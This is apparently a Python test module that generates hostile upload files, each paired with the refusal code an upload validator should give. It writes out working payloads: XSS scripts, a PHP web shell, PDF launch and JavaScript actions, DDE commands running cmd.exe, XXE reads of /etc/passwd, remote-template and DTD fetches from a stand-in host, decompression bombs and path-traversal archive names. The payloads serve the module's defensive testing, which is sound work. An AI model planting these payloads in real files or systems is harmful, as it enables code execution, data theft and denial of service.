"""Files made to do harm: some two hundred, each with the reason for which it is refused."""

import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_LZMA, ZipFile

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from evidence.inspection.verdict import EICAR
from tests.evidence import honest
from tests.evidence.honest import (
    HEAD,
    W,
    chunk,
    document,
    docx,
    docx_parts,
    package,
    picture,
    png,
    relation,
    relations,
    saved,
    text_pdf,
    types,
    xlsx,
    xlsx_parts,
)

TAKEN = ("pdf", "png", "jpg", "jpeg", "docx", "xlsx")
HTML = b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
RTF = rb"{\rtf1{\object\objocx{\*\objdata 0105}}}"


@dataclass(frozen=True)
class Hostile:
    """A file, and the codes that may refuse it."""

    id: str
    name: str
    content: bytes
    codes: tuple[str, ...]


def all_of_them() -> list[Hostile]:
    """Every hostile file; ids are unique."""
    makers: tuple[Callable[[], Iterator[Hostile]], ...] = (
        wrong_names, disguises, polyglots, viruses, pictures, truncated, pdf_acts, pdf_hidden,
        pdf_broken, bombs, broken_archives, strange_members, macros, objects, ways_out, doctypes,
        mutants,
    )  # fmt: skip
    return [row for maker in makers for row in maker()]


def wrong_names() -> Iterator[Hostile]:
    """Extensions that run, that are read as a page, or that hide another."""
    for extension in (
        "exe", "html", "htm", "xhtml", "svg", "svgz", "js", "mjs", "php", "phtml", "jsp", "asp",
        "aspx", "sh", "bat", "cmd", "ps1", "vbs", "hta", "scr", "jar", "apk", "swf", "xml", "xsl",
        "mht", "eml", "zip", "rar", "7z", "gz", "doc", "xls", "docm", "xlsm", "dotm", "xltm",
        "xlsb", "rtf", "odt", "csv", "txt", "lnk", "url", "iso", "heic", "gif", "bmp", "webp",
    ):  # fmt: skip
        yield Hostile(f"name-{extension}", f"bao-cao.{extension}", text_pdf(), ("extension",))
    for name in ("quyet-dinh.pdf.exe", "anh.png.html", "khong-duoi", "pdf", ".htaccess", "..", "",
                 "a.pdf/", "x.pdf;.exe", "con.pdf ::$DATA",
                 "anh\u202egnp.exe", "a.p\u0440f"):  # fmt: skip
        yield Hostile(f"name-{name!r}", name, text_pdf(), ("extension",))


def disguises() -> Iterator[Hostile]:
    """A program or a page under the name of every kind that is taken."""
    contents = {
        "html": HTML, "svg": SVG, "js": b"fetch('/minh-chung/')", "php": b"<?php system($_GET[0]);",
        "exe": b"MZ\x90\x00" + b"\x00" * 500, "elf": b"\x7fELF" + b"\x00" * 500, "rtf": RTF,
        "gif": b"GIF89a" + b"\x00" * 60,
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000,
        "zip": package({"a.html": HTML}), "xml": b'<?xml version="1.0"?><x/>',
    }  # fmt: skip
    for extension in TAKEN:
        for what, content in contents.items():
            codes = ("other_content", "bad_member")
            yield Hostile(f"{what}-as-{extension}", f"x.{extension}", content, codes)
    other = ("other_content",)
    for extension, content in (("pdf", picture()), ("png", picture()), ("jpg", picture("PNG")),
                               ("docx", text_pdf()), ("jpg", text_pdf()), ("pdf", docx()),
                               ("docx", xlsx()), ("xlsx", docx())):  # fmt: skip
        about = f"swap-{extension}-{content[1:4]!r}-{len(content)}"
        yield Hostile(about, f"x.{extension}", content, other)
    for extension in TAKEN:
        yield Hostile(f"empty-{extension}", f"x.{extension}", b"", ("empty",))
        yield Hostile(f"huge-{extension}", f"x.{extension}", b"\x00" * 20_000_001, ("too_large",))


def polyglots() -> Iterator[Hostile]:
    """Two formats in one file."""
    zipped = package({"x.html": HTML})
    yield Hostile("pdf-and-zip", "x.pdf", text_pdf() + zipped, ("damaged_pdf", "two_formats"))
    yield Hostile("pdf-and-zip-at-the-end", "x.pdf", text_pdf() + zipped + b"\n%%EOF\n",
                  ("two_formats",))  # fmt: skip
    yield Hostile("png-and-zip", "x.png", picture("PNG") + zipped, ("two_formats",))
    yield Hostile("jpeg-and-zip", "x.jpg", picture() + zipped, ("two_formats",))
    yield Hostile("png-and-docx", "x.png", picture("PNG") + docx(), ("two_formats",))
    yield Hostile("png-and-html", "x.png", picture("PNG") + HTML, ("active_image",))
    yield Hostile("png-and-bytes", "x.png", picture("PNG") + b"\x00" * 90, ("two_formats",))
    yield Hostile("png-text-html", "x.png", png(9, 9, extra=chunk(b"tEXt", b"Comment\0" + HTML)),
                  ("active_image",))  # fmt: skip
    yield Hostile("jpeg-and-html", "x.jpg", picture() + HTML, ("active_image",))
    yield Hostile("jpeg-and-php", "x.jpg", picture() + b"<?php phpinfo();", ("active_image",))
    for what, comment in (("html", HTML), ("js", b"*/=1;location='javascript:x'//"), ("svg", SVG)):
        yield Hostile(f"jpeg-comment-{what}", "x.jpg", jpeg_with(comment), ("active_image",))
    yield Hostile("jpeg-and-pdf", "x.jpg", jpeg_with(b"\n%PDF-1.4\n1 0 obj"), ("two_formats",))
    yield Hostile("png-and-pdf", "x.png", png(9, 9, extra=chunk(b"tEXt", b"a\0%PDF-1.4")),
                  ("two_formats",))  # fmt: skip
    yield Hostile("pdf-after-html", "x.pdf", HTML + text_pdf(), ("other_content",))
    yield Hostile("docx-after-html", "x.docx", HTML + docx(), ("other_content",))
    yield Hostile("docx-after-zip", "x.docx", zipped + docx(), ("two_formats", "archive_bomb"))
    yield Hostile("docx-before-html", "x.docx", docx() + HTML, ("two_formats", "damaged_office"))


def jpeg_with(comment: bytes) -> bytes:
    """A photograph with a comment at its beginning."""
    content = picture()
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return content[:2] + segment + content[2:]


def viruses() -> Iterator[Hostile]:
    """The test virus plain, in a zip, in a PDF, in a document."""
    for extension in TAKEN:
        yield Hostile(f"eicar-plain-{extension}", f"x.{extension}", EICAR, ("virus",))
    yield Hostile("eicar-zip", "x.docx", package({"eicar.com": EICAR}), ("other_content",))
    yield Hostile("eicar-docx", "x.docx", docx(**{"word/media/a.png": EICAR}), ("virus",))
    yield Hostile("eicar-xlsx", "x.xlsx", package({**xlsx_parts(), "xl/a.xml": EICAR}), ("virus",))
    inner = docx(**{"word/media/a.png": EICAR})
    nested = docx(**{"word/embeddings/a.docx": inner})
    yield Hostile("eicar-nested", "x.docx", nested, ("virus",))
    yield Hostile("eicar-jpeg", "x.jpg", picture() + EICAR, ("virus",))
    for what, how in (("plain", {}), ("flate", {"compress_streams": True})):
        pdf = document()
        pdf.Root.Extra = pdf.make_stream(EICAR * 3)
        yield Hostile(f"eicar-pdf-{what}", "x.pdf", saved(pdf, **how), ("virus",))


def pictures() -> Iterator[Hostile]:
    """Pictures that are too much to draw, or that are none."""
    for width, height in ((10_000, 10_000), (60_000, 1_000), (1, 60_000_000), (65_000, 65_000)):
        content = header_only(width, height)
        codes = ("too_many_pixels", "damaged_image")
        yield Hostile(f"png-{width}x{height}", "x.png", content, codes)
    yield Hostile("jpeg-65000", "x.jpg", jpeg_sized(65_000, 65_000), ("too_many_pixels",))
    yield Hostile("jpeg-9000", "x.jpg", jpeg_sized(9_000, 9_000), ("too_many_pixels",))
    bomb = packed_zeros(150)
    for name in (b"zTXt", b"iCCP"):
        content = png(9, 9, extra=chunk(name, b"x\x00\x00" + bomb))
        yield Hostile(f"png-{name.decode()}-bomb", "x.png", content, ("damaged_image",))
    yield Hostile("png-rows-missing", "x.png", header_only(3_000, 3_000), ("damaged_image",))
    yield Hostile("png-no-end", "x.png", png(9, 9)[:-12], ("damaged_image",))
    yield Hostile("png-wrong-sum", "x.png", png(9, 9)[:-20] + b"\x00" * 8 + png(9, 9)[-12:],
                  ("damaged_image",))  # fmt: skip
    yield Hostile("png-huge-chunk", "x.png", png(9, 9)[:8] + b"\xff\xff\xff\xffIHDR",
                  ("damaged_image",))  # fmt: skip
    yield Hostile("png-signature-only", "x.png", b"\x89PNG\r\n\x1a\n", ("damaged_image",))
    yield Hostile("jpeg-signature-only", "x.jpg", b"\xff\xd8\xff\xe0", ("damaged_image",))
    yield Hostile("jpeg-noise", "x.jpg", b"\xff\xd8\xff" + honest.noise(4000), ("damaged_image",))


@cache
def packed_zeros(megabytes: int) -> bytes:
    """Many bytes in few, without ever having them all."""
    packer, block = zlib.compressobj(1), b"\x00" * 1_000_000
    return b"".join([packer.compress(block) for _number in range(megabytes)]) + packer.flush()


def header_only(width: int, height: int) -> bytes:
    """A picture that says it is large and holds one row."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * 100)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg_sized(width: int, height: int) -> bytes:
    """A photograph whose frame claims another size."""
    content = bytearray(picture())
    at = content.index(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def truncated() -> Iterator[Hostile]:
    """Honest files of which the end is missing."""
    kinds = {"pdf": honest.scanned_pdf(), "png": picture("PNG"), "jpg": picture(), "docx": docx(),
             "xlsx": xlsx()}  # fmt: skip
    for extension, content in kinds.items():
        for share in (0.02, 0.5, 0.9):
            yield Hostile(
                f"cut-{extension}-{share}",
                f"x.{extension}",
                content[: int(len(content) * share)],
                ("damaged_pdf", "damaged_image", "damaged_office"),
            )


def script(**more: object) -> Dictionary:
    """An action that runs."""
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"), **more)


def pdf_acts() -> Iterator[Hostile]:
    """Documents that do something: when opened, pressed, printed or filled in."""
    actions = {
        "script": (script, "pdf_script"),
        "launch": (lambda: Dictionary(S=Name.Launch, F=String("cmd.exe")), "pdf_action"),
        "submit": (
            lambda: Dictionary(S=Name.SubmitForm, F=String("https://x.example")),
            "pdf_action",
        ),
        "import": (lambda: Dictionary(S=Name.ImportData, F=String("x.fdf")), "pdf_action"),
        "embedded": (lambda: Dictionary(S=Name.GoToE, F=String("x.pdf")), "pdf_action"),
        "rendition": (lambda: Dictionary(S=Name.Rendition), "pdf_action"),
        "movie": (lambda: Dictionary(S=Name.Movie), "pdf_media"),
        "sound": (lambda: Dictionary(S=Name.Sound), "pdf_media"),
        "address": (lambda: Dictionary(S=Name.URI, URI=String("https://x.example")), "pdf_action"),
        "remote": (
            lambda: Dictionary(S=Name.GoToR, F=String("\\\\x.example\\a.pdf")),
            "pdf_action",
        ),
    }
    for what, (make, code) in actions.items():
        yield Hostile(f"pdf-open-{what}", "x.pdf", saved(document(OpenAction=make())), (code,))
        automatic = document(AA=Dictionary(WC=make()))
        yield Hostile(f"pdf-close-{what}", "x.pdf", saved(automatic), (code,))
        page = document()
        page.pages[0].obj.AA = Dictionary(O=make())
        yield Hostile(f"pdf-page-{what}", "x.pdf", saved(page), (code,))
        if what not in {"address", "remote"}:
            yield Hostile(f"pdf-press-{what}", "x.pdf", saved(pressed(make())), (code,))
    for scheme in ("javascript:alert(1)", "file:///etc/passwd", "data:text/html,x", "VBScript:x"):
        action = Dictionary(S=Name.URI, URI=String(scheme))
        yield Hostile(f"pdf-link-{scheme[:6]}", "x.pdf", saved(pressed(action)), ("pdf_link",))


def pressed(action: Dictionary) -> pikepdf.Pdf:
    """A document with the action on a place that a person may press."""
    pdf = document()
    pdf.pages[0].obj.Annots[0].A = action
    return pdf


def pdf_hidden() -> Iterator[Hostile]:
    """The same where it is not looked for at once."""
    names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))
    yield Hostile("pdf-names", "x.pdf", saved(document(Names=names)), ("pdf_script",))
    chained = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Array([script()]))
    yield Hostile("pdf-chained", "x.pdf", saved(pressed(chained)), ("pdf_script",))
    packed = saved(document(OpenAction=script()),
                   object_stream_mode=pikepdf.ObjectStreamMode.generate)  # fmt: skip
    yield Hostile("pdf-packed", "x.pdf", packed, ("pdf_script",))
    plain = saved(document(OpenAction=script()), compress_streams=False)
    for what, spelt in (("some", b"/Java#53cript"), ("all", b"/#4a#61#76#61#53#63#72#69#70#74")):
        content = plain.replace(b"/JavaScript", spelt)
        yield Hostile(f"pdf-spelt-{what}", "x.pdf", content, ("pdf_script",))
    unreached = document()
    unreached.make_indirect(script())
    appended = plain_with_orphan(b"77 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj")
    yield Hostile("pdf-orphan", "x.pdf", appended, ("pdf_script",))
    yield Hostile("pdf-xfa", "x.pdf", saved(document(AcroForm=Dictionary(XFA=String("x")))),
                  ("pdf_script",))  # fmt: skip
    attached = document()
    attached.attachments["x.exe"] = b"MZ" + b"\x00" * 90
    yield Hostile("pdf-attachment", "x.pdf", saved(attached), ("pdf_attachment",))
    yield Hostile("pdf-portfolio", "x.pdf", saved(document(Collection=Dictionary())),
                  ("pdf_attachment",))  # fmt: skip
    for subtype, code in (("FileAttachment", "pdf_attachment"), ("RichMedia", "pdf_media"),
                          ("3D", "pdf_media"), ("Movie", "pdf_media"),
                          ("Sound", "pdf_media")):  # fmt: skip
        pdf = document()
        pdf.pages[0].obj.Annots[0].Subtype = Name(f"/{subtype}")
        yield Hostile(f"pdf-note-{subtype}", "x.pdf", saved(pdf), (code,))
    inside = document()
    inside.Root.Extra = inside.make_stream(b"<< /S /JavaScript /JS (x) >>" * 5)
    yield Hostile("pdf-in-a-stream", "x.pdf", saved(inside), ("pdf_script",))


def plain_with_orphan(row: bytes) -> bytes:
    """A document with an object that no table lists."""
    content = text_pdf()
    at = content.rindex(b"startxref")
    return content[:at] + row + b"\n" + content[at:]


def pdf_broken() -> Iterator[Hostile]:
    """Documents that are locked, empty, or made to keep a reader busy."""
    for what, key in (("owner", {"owner": "a", "user": ""}), ("user", {"owner": "a", "user": "b"})):
        content = saved(document(), encryption=pikepdf.Encryption(**key))
        yield Hostile(f"pdf-locked-{what}", "x.pdf", content, ("pdf_locked",))
    yield Hostile("pdf-no-pages", "x.pdf", saved(pikepdf.new()), ("damaged_pdf",))
    yield Hostile("pdf-head-only", "x.pdf", b"%PDF-1.7\n%%EOF", ("damaged_pdf",))
    yield Hostile("pdf-noise", "x.pdf", b"%PDF-1.7\n" + honest.noise(9000) + b"%%EOF",
                  ("damaged_pdf",))  # fmt: skip
    nested = b"%PDF-1.7\n1 0 obj " + b"[" * 100_000 + b" endobj trailer << /Root 1 0 R >> %%EOF"
    yield Hostile("pdf-nested", "x.pdf", nested, ("damaged_pdf",))
    bomb = document()
    flat = packed_zeros(250)
    bomb.Root.Extra = bomb.make_stream(flat, Filter=Name.FlateDecode)
    yield Hostile("pdf-stream-bomb", "x.pdf", saved(bomb), ("pdf_too_complex",))
    twice = document()
    double = zlib.compress(flat, 9)
    twice.Root.Extra = twice.make_stream(double, Filter=Array([Name.FlateDecode] * 2))
    yield Hostile("pdf-stream-bomb-twice", "x.pdf", saved(twice), ("pdf_too_complex",))
    yield Hostile("pdf-objects-bomb", "x.pdf", objects_bomb(), ("damaged_pdf", "pdf_too_complex"))


def objects_bomb() -> bytes:
    """A packed list of objects that unpacks to more than there is memory for."""
    flat = packed_zeros(900)
    rows = zlib.compress(bytes([2, 0, 0, 9, 0, 1, 0, 0, 0, 0]))
    listed = b"/Type /XRef /W [1 3 1] /Index [1 2] /Size 10 /Root 1 0 R /Filter /FlateDecode"
    start = b"%PDF-1.7\n"
    packed = b"9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >> stream\n"
    body = packed % len(flat) + flat + b"\nendstream endobj\n"
    table = b"8 0 obj << %s /Length %d >> stream\n" % (listed, len(rows)) + rows
    at = len(start) + len(body)
    return start + body + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % at


def bombs() -> Iterator[Hostile]:
    """Archives that grow when they are opened."""
    flat = {**docx_parts(), "word/a.xml": b" " * 30_000_000}
    yield Hostile("zip-flat", "x.docx", package(flat), ("archive_bomb",))
    blank = b" " * 2_000_000
    many = {**docx_parts(), **{f"word/{n}.xml": blank for n in range(9)}}
    yield Hostile("zip-many", "x.docx", package(many), ("archive_bomb",))
    crowd = {**docx_parts(), **{f"word/{n}.xml": b"<x/>" for n in range(2_100)}}
    yield Hostile("zip-crowd", "x.docx", package(crowd), ("archive_bomb",))
    inner = package({**xlsx_parts(), "xl/a.xml": b" " * 20_000_000})
    nested = docx(**{"word/embeddings/a.xlsx": inner})
    yield Hostile("zip-nested", "x.docx", nested, ("archive_bomb",))
    deep = docx(**{"word/embeddings/b.docx": docx(**{"word/embeddings/a.docx": docx()})})
    yield Hostile("zip-deep", "x.docx", deep, ("object",))
    yield Hostile("zip-overlap", "x.docx", overlapping(), ("archive_bomb", "damaged_office"))
    yield Hostile("zip-twice", "x.docx", doubled(), ("archive_bomb",))
    for factor in (0, 1, 4_000_000_000):
        content = claiming(docx(), size=factor)
        codes = ("archive_bomb", "damaged_office", "other_content")
        yield Hostile(f"zip-claims-{factor}", "x.docx", content, codes)


def overlapping() -> bytes:
    """Two entries of the list that share the bytes of one member."""
    content = bytearray(package({**docx_parts(), "word/aa.xml": b"x" * 900, "word/bb.xml": b"x"}))
    at = content.rindex(b"word/bb.xml") - 46
    other = content.rindex(b"word/aa.xml") - 46
    content[at + 10 : at + 28] = content[other + 10 : other + 28]
    content[at + 42 : at + 46] = content[other + 42 : other + 46]
    return bytes(content)


def doubled() -> bytes:
    """Two members of one name: which of them is read depends on the reader."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, content in docx_parts().items():
            archive.writestr(name, content)
        archive.writestr("word/Document.xml", b"<x/>")
    return out.getvalue()


def claiming(content: bytes, *, size: int) -> bytes:
    """An archive whose list gives another size for every member."""
    changed, at = bytearray(content), 0
    while (at := changed.find(b"PK\x01\x02", at)) >= 0:
        changed[at + 24 : at + 28] = struct.pack("<I", size)
        at += 46
    return bytes(changed)


def broken_archives() -> Iterator[Hostile]:
    """Archives no office program writes."""
    for what, method in (("bzip2", ZIP_BZIP2), ("lzma", ZIP_LZMA)):
        out = BytesIO()
        with ZipFile(out, "w", method) as archive:
            for name, content in docx_parts().items():
                archive.writestr(name, content)
        yield Hostile(f"zip-{what}", "x.docx", out.getvalue(), ("damaged_office",))
    locked = bytearray(docx())
    for mark, place in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = 0
        while (at := locked.find(mark, at)) >= 0:
            locked[at + place] |= 1
            at += 4
    yield Hostile("zip-locked", "x.docx", bytes(locked), ("office_locked",))
    yield Hostile("zip-comment", "x.docx", commented(docx(), HTML), ("two_formats",))
    wrong = docx().replace(b"word/document.xml", b"word/documenT.xml", 1)
    yield Hostile("zip-two-names", "x.docx", wrong, ("damaged_office",))
    yield Hostile("zip-only-head", "x.docx", b"PK\x03\x04" + b"\x00" * 60, ("damaged_office",))
    yield Hostile("zip-no-types", "x.docx", package({"word/document.xml": b"<x/>"}),
                  ("other_content",))  # fmt: skip
    flipped = bytearray(docx())
    flipped[flipped.index(b"word/media/image1.png") + 60] ^= 0xFF
    yield Hostile("zip-wrong-sum", "x.docx", bytes(flipped), ("damaged_office",))


def commented(content: bytes, comment: bytes) -> bytes:
    """An archive with words behind its end."""
    return content[:-2] + struct.pack("<H", len(comment)) + comment


def strange_members() -> Iterator[Hostile]:
    """Names that lead out of the archive, and parts that no document has."""
    for name in ("../../etc/cron.d/x.xml", "/etc/x.xml", "word/../../x.xml", "C:/x.xml",
                 "word\\..\\x.xml", "word/x.html", "word/x.js", "word/x.exe", "word/x.php",
                 "word/x.bin", "word/x.mht", "word/x.rtf", "x.lnk", "word/x.xml.exe",
                 "word/x"):  # fmt: skip
        yield Hostile(f"member-{name}", "x.docx", docx(**{name: b"<x/>"}), ("bad_member",))


def macros() -> Iterator[Hostile]:
    """Documents that bring a program of their own."""
    for name in ("word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/vbaData.xml",
                 "word/activeX/activeX1.xml", "xl/macrosheets/sheet1.xml",
                 "xl/dialogsheets/sheet1.xml", "xl/ctrlProps/ctrlProp1.xml"):  # fmt: skip
        yield Hostile(f"macro-{name}", "x.docx", docx(**{name: b"<x/>"}), ("macro",))
    for kind in ("application/vnd.ms-word.document.macroEnabled.main+xml",
                 "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                 "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"):  # fmt: skip
        listed = types(kind, "/word/document.xml")
        content = docx(**{"[Content_Types].xml": listed})
        yield Hostile(f"macro-type-{kind[12:34]}-{len(kind)}", "x.docx", content, ("macro",))
    more = '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>'
    listed = types(f"{honest.WORD}.document.main+xml", "/word/document.xml", more)
    yield Hostile("macro-renamed", "x.docx", docx(**{"[Content_Types].xml": listed}), ("macro",))
    target = relations(relation("vbaProject", "a.xml"))
    content = docx(**{"word/_rels/document.xml.rels": target})
    yield Hostile("macro-relation", "x.docx", content, ("outside",))


def objects() -> Iterator[Hostile]:
    """Files of other programs inside a document."""
    for name in ("word/embeddings/oleObject1.bin", "word/embeddings/x.exe", "xl/embeddings/a.bin",
                 "word/embeddings/a.pptx", "word/oleObject.xml"):  # fmt: skip
        yield Hostile(f"object-{name}", "x.docx", docx(**{name: b"\xd0\xcf\x11\xe0"}), ("object",))
    for kind in ("oleObject", "control"):
        content = docx(**{"word/_rels/document.xml.rels": relations(relation(kind, "a.xml"))})
        yield Hostile(f"object-relation-{kind}", "x.docx", content, ("object",))
    yield Hostile("object-elsewhere", "x.docx", docx(**{"word/media/a.docx": docx()}), ("object",))


def ways_out() -> Iterator[Hostile]:
    """Documents that fetch something, or start a program, when they are opened."""
    for kind, target in (
        ("attachedTemplate", "https://x.example/t.dotm"),
        ("attachedTemplate", "\\\\x.example\\t.dotm"),
        ("attachedTemplate", "file://x.example/t.dotm"),
        ("image", "https://x.example/a.png"),
        ("externalLinkPath", "https://x.example/a.xlsx"),
        ("externalLinkPath", "file:///\\\\x.example\\a.xlsx"),
        ("subDocument", "https://x.example/a.docx"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "file://x.example/share"),
        ("hyperlink", "ms-msdt:/id x"),
        ("hyperlink", "https://[x"),
        ("oleObject", "https://x.example/a.rtf"),
        ("frame", "https://x.example/a.html"),
    ):
        content = docx(
            **{"word/_rels/settings.xml.rels": relations(relation(kind, target, external=True))}
        )
        codes = ("outside", "object")
        yield Hostile(f"out-{kind}-{target[:22]}", "x.docx", content, codes)
    inside = docx(**{"word/_rels/document.xml.rels": relations(relation("aFChunk", "a.xml"))})
    yield Hostile("out-chunk", "x.docx", inside, ("outside",))
    for what, field in (
        ("whole", '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>'),
        ("pieces", "<w:instrText>DD</w:instrText><w:instrText>EAUTO cmd</w:instrText>"),
        ("coded", "<w:instrText>&#68;&#68;E cmd</w:instrText>"),
        ("simple", '<w:fldSimple w:instr="DDE cmd"/>'),
    ):
        yield Hostile(f"dde-{what}", "x.docx", docx(f"<w:p>{field}</w:p>"), ("outside",))
    part = f'{HEAD}<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    content = package({**xlsx_parts(), "xl/externalLinks/externalLink1.xml": part})
    yield Hostile("dde-sheet", "x.xlsx", content, ("outside",))


def doctypes() -> Iterator[Hostile]:
    """XML that reads files, calls out, or grows."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    heads = {
        "file": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        "http": '<!DOCTYPE x SYSTEM "https://x.example/a.dtd">',
        "laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>',
        "parameter": '<!DOCTYPE x [<!ENTITY % a SYSTEM "https://x.example/a"> %a;]>',
    }
    for what, head in heads.items():
        for part in ("word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"):
            content = docx(**{part: f'<?xml version="1.0"?>{head}<x xmlns="{W}">&a;</x>'})
            yield Hostile(f"xml-{what}-{part[:9]}-{len(part)}", "x.docx", content, ("doctype",))
    wide = f'<?xml version="1.0" encoding="UTF-16"?>{heads["file"]}<x/>'.encode("utf-16")
    yield Hostile("xml-utf-16", "x.docx", docx(**{"word/document.xml": wide}), ("doctype",))
    for what, part in (("noise", b"\x00\x01\x02"), ("open", b"<x"), ("empty", b"")):
        content = docx(**{"word/document.xml": part})
        yield Hostile(f"xml-{what}", "x.docx", content, ("damaged_office",))


def mutants() -> Iterator[Hostile]:
    """Honest files whose first bytes were changed."""
    kinds = {"pdf": text_pdf(), "png": picture("PNG"), "jpg": picture(), "docx": docx()}
    for extension, content in kinds.items():
        for what, begin in (("null", b"\x00"), ("space", b" "), ("mark", b"\xef\xbb\xbf")):
            yield Hostile(f"begins-{extension}-{what}", f"x.{extension}", begin + content,
                          ("other_content",))  # fmt: skip
